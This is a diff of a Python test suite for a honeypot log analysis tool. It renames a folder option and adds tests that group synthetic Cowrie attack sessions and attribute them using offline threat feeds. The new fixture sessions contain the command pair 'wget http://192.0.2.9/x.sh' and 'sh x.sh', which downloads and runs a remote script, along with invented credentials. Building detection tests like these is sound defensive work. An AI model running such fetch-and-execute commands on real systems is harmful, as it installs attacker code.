@@ -14,7 +14,7 @@ import unittest
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
 import mrt  # noqa: E402
 import mmdb  # noqa: E402
-from support import DONE, FAILED, REFUSED, USAGE, Case, coord  # noqa: E402
+from support import DONE, FAILED, REFUSED, USAGE, Case, background, coord, cowrie_session, ndjson  # noqa: E402
 
 PEERS = [("192.0.2.1", 64496, True), ("2001:db8::1", 64497, False), ("192.0.2.3", 64498, True)]
 SYSTEM_DATABASE = "/var/lib/location/database.db"
@@ -30,7 +30,7 @@ class Routes(Case):
         return result.stderr.decode()
 
     def look_up(self, *addresses):
-        result = self.status(DONE, coord("tools", "lookup", "--format", "json", "--tools-dir", self.path("t"), *addresses))
+        result = self.status(DONE, coord("tools", "lookup", "--format", "json", "--tools-folder", self.path("t"), *addresses))
         return {row["address"]: row for row in json.loads(result.stdout)}
 
     def setUp(self):
@@ -168,22 +168,22 @@ class LookUps(Case):
             {"name": "test:off", "url": "https://lists.example.net/y", "file": "y.txt", "enabled": False}]}).encode())
         self.file("t/x.txt", b"1.0.0.0/24\n")
         self.file("t/y.txt", b"1.0.0.0/24\n")
-        said = self.status(DONE, coord("tools", "lookup", "--tools-dir", self.path("t"), "1.0.0.1")).stdout.decode()
+        said = self.status(DONE, coord("tools", "lookup", "--tools-folder", self.path("t"), "1.0.0.1")).stdout.decode()
         for line in ("asn         15169", "as_name     Google Inc.", "country     AU", "city        Sydney",
                      "use         hosting", "use_by      name of the AS", "listed_by   test:list\n"):
             self.assertIn(line, said)
-        listed = self.status(DONE, coord("tools", "list", "--format", "json", "--tools-dir", self.path("t")))
+        listed = self.status(DONE, coord("tools", "list", "--format", "json", "--tools-folder", self.path("t")))
         listed = json.loads(listed.stdout)
         self.assertEqual(["GeoLite2-ASN", "DBIP-City-Lite"],
                          [d["type"] for d in listed["databases"] if d["path"].startswith(self.folder)])
         self.assertEqual([True, False], [f["enabled"] for f in listed["feeds"]])
-        self.status(USAGE, coord("tools", "lookup", "--tools-dir", self.path("t"), "example.net"))
-        self.status(FAILED, coord("tools", "lookup", "--tools-dir", self.path("none"), "1.0.0.1"))
+        self.status(USAGE, coord("tools", "lookup", "--tools-folder", self.path("t"), "example.net"))
+        self.status(FAILED, coord("tools", "lookup", "--tools-folder", self.path("none"), "1.0.0.1"))
 
     def test_the_example_is_a_manifest(self):
         example = self.status(DONE, coord("tools", "list", "--example")).stdout
         self.file("t/tools.json", example)
-        listed = json.loads(self.status(DONE, coord("tools", "list", "--format", "json", "--tools-dir",
+        listed = json.loads(self.status(DONE, coord("tools", "list", "--format", "json", "--tools-folder",
                                                     self.path("t"))).stdout)
         names = {f["name"] for f in listed["feeds"]}
         self.assertLessEqual({"spamhaus:drop", "spamhaus:drop6", "spamhaus:asndrop", "blocklist.de:all", "tor:exits",
@@ -205,13 +205,74 @@ class LookUps(Case):
                                ([{"name": "a", "file": "a"}], "feeds[0].url: is missing")):
             text = manifest if isinstance(manifest, bytes) else json.dumps({"feeds": manifest}).encode()
             self.file("t/tools.json", text)
-            result = self.status(FAILED, coord("tools", "list", "--tools-dir", self.path("t")))
+            result = self.status(FAILED, coord("tools", "list", "--tools-folder", self.path("t")))
             self.assertIn(what, result.stderr.decode())
 
     @unittest.skipUnless(os.path.exists(SYSTEM_DATABASE), "libloc-database is not installed (scripts/setup.sh test)")
     def test_the_systems_database(self):
         found = json.loads(self.status(DONE, coord("tools", "lookup", "--format", "json", "8.8.8.8")).stdout)[0]
         self.assertEqual((15169, "US"), (found["asn"], found["country"]))
+
+
+class Analyses(Case):
+    """One folder with everything in it: the answer says what it told, and verify repeats it from the document."""
+
+    def group(self):
+        """Twelve sources of one network that act together, among many others."""
+        events = background(90)
+        for i in range(12):
+            for day in range(5):
+                events += cowrie_session(f"aa{i:04x}{day:06x}", f"203.0.113.{i + 10}", day * 9000 + 3600 + i,
+                                         (("admin", "Zx9!unusual"), ("deploy", "Qq7-particular")),
+                                         ("wget http://192.0.2.9/x.sh", "sh x.sh"))
+        return self.file("logs/cowrie.json", ndjson(sorted(events, key=lambda e: e["timestamp"])))
+
+    def folder_of_tools(self):
+        entries = {f"198.18.{i}.0/24": {mmdb.ASN: mmdb.u32(64500 + i), mmdb.ORGANISATION: f"Net {i}"} for i in range(7)}
+        entries["203.0.113.0/24"] = {mmdb.ASN: mmdb.u32(64999), mmdb.ORGANISATION: "Example Hosting"}
+        self.file("t/asn.mmdb", mmdb.build(entries, "GeoLite2-ASN"))
+        places = {f"198.18.{i}.0/24": {"country": {"iso_code": c}} for i, c in
+                  enumerate(("DE", "FR", "NL", "US", "CN", "BR", "IN"))}
+        places["203.0.113.0/24"] = {"country": {"iso_code": "RU"}}
+        self.file("t/country.mmdb", mmdb.build(places, "GeoLite2-Country"))
+        self.file("t/tools.json", json.dumps({"feeds": [
+            {"name": "test:bad", "url": "https://lists.example.net/x", "file": "x.txt"},
+            {"name": "also:research", "kind": "scanners", "url": "https://lists.example.net/r", "file": "r.csv"}]}).encode())
+        self.file("t/x.txt", b"".join(b"203.0.113.%d\n" % (i + 10) for i in range(7)) + b"198.18.1.1\n")
+        self.file("t/r.csv", b"Example Research,network,192.0.2.0/24\n")
+        return self.path("t")
+
+    def analyse(self, *args):
+        return self.status(DONE, coord("analyze", "-q", "--depth", "standard", *args, self.path("logs"))).stdout
+
+    def test_offline_tools_are_in_the_answer_and_verify_repeats_it(self):
+        self.group()
+        tools = ("--tools", "offline", "--tools-folder", self.folder_of_tools())
+        plain = self.analyse("--format", "json")
+        self.assertEqual(plain, self.analyse("--format", "json", "--tools", "none"))
+        for name in ("64999", "test:bad"):
+            self.assertNotIn(name.encode(), plain)
+        document = self.analyse("--format", "json", *tools)
+        self.assertEqual(document, self.analyse("--format", "json", "--threads", "2", *tools))
+        result = json.loads(document)
+        files = result["provenance"]["files"]
+        self.assertLessEqual({self.path("t/asn.mmdb"), self.path("t/country.mmdb"), self.path("t/r.csv"),
+                              "test:bad=" + self.path("t/x.txt")}, {f["path"] for f in files})
+        self.assertTrue(all(len(f["sha256"]) == 64 for f in files))
+        group = next(c for c in result["campaigns"] if "203.0.113.10" in c["sources"])
+        evidence = {e["channel"]: e for e in group["evidence"]}
+        self.assertIn('7 of 12 sources are listed by "test:bad"', evidence["threat_intelligence"]["detail"])
+        for form in ("text", "json", "html"):
+            answer = self.analyse("--format", form, *tools).decode()
+            for word in ("64999", "RU", "test:bad"):
+                self.assertIn(word, answer, form)
+        with open(self.path("result.json"), "wb") as f:
+            f.write(document)
+        said = self.status(DONE, coord("verify", self.path("result.json"))).stdout.decode()
+        self.assertTrue(said.endswith("identical\n"), said)
+        self.file("t/x.txt", b"203.0.113.10\n")
+        said = self.status(FAILED, coord("verify", self.path("result.json"))).stdout.decode()
+        self.assertIn("other feed", said)
 
 
 class Server(http.server.ThreadingHTTPServer):
@@ -267,7 +328,7 @@ class Updates(Case):
             {"name": n, "url": base + n, "file": n + ".txt", **more} for n in names]}).encode())
 
     def update(self, *args, status=DONE):
-        result = coord("tools", "update", "--allow-private", "--tools-dir", self.path("t"), *args)
+        result = coord("tools", "update", "--allow-private", "--tools-folder", self.path("t"), *args)
         return self.status(status, result).stderr.decode()
 
     def content(self, name):
@@ -361,7 +422,7 @@ class Updates(Case):
 
     def test_nothing_private_without_leave(self):
         self.manifest("a")
-        result = self.status(REFUSED, coord("tools", "update", "--tools-dir", self.path("t")))
+        result = self.status(REFUSED, coord("tools", "update", "--tools-folder", self.path("t")))
         self.assertIn("a: failed", result.stderr.decode())
         self.assertEqual([], self.server.requests)
 
@@ -401,7 +462,7 @@ class Updates(Case):
             [{"ipv4": "198.51.100.7", "type": 'Sho"dan\n, Inc.'}, {"ipv4": "198.51.100.8", "type": "censys"}]).encode())
         said = self.update()
         self.assertIn("research: updated: 2 entries", said)
-        found = json.loads(coord("tools", "lookup", "--format", "json", "--tools-dir", self.path("t"),
+        found = json.loads(coord("tools", "lookup", "--format", "json", "--tools-folder", self.path("t"),
                                  "1.0.0.1").stdout)[0]
         self.assertEqual(15169, found["asn"])
         self.server.answers["/asn"] = (200, {}, b"\0" * len(mmdb.shape("geolite2-asn")))
